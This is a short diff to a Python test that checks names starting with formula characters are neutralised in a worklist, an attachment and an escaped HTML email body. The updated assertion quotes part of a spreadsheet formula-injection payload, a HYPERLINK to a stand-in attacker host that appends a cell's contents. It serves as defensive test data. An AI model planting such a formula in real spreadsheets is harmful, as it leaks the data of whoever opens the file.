@@ -274,10 +274,10 @@ def test_formula_names_are_neutralised_in_the_worklist_and_the_attachment(
         assert [r["recipient_name"] for r in rows] == ["'" + HYPERLINK, "'@Zed"]
         assert [r["recipient_company"] for r in rows] == ["'+Acme", "Acme - West"]
         assert [r["total_clicks"] for r in rows] == ["-1", "3"]  # numbers stay numbers
-    # The HTML shows the name as text, escaped.
+    # The HTML shows the name as text, escaped (a text node needs & and < escaped, not quotes).
     html_body = message.get_body(("html",))
     assert html_body is not None
-    assert "=HYPERLINK(&quot;http://evil.example" in html_body.get_content()
+    assert '=HYPERLINK("http://evil.example/?x="&amp;A2' in html_body.get_content()
 
 
 def test_week_files_are_private(tmp_path: Path, serve: Any) -> None:
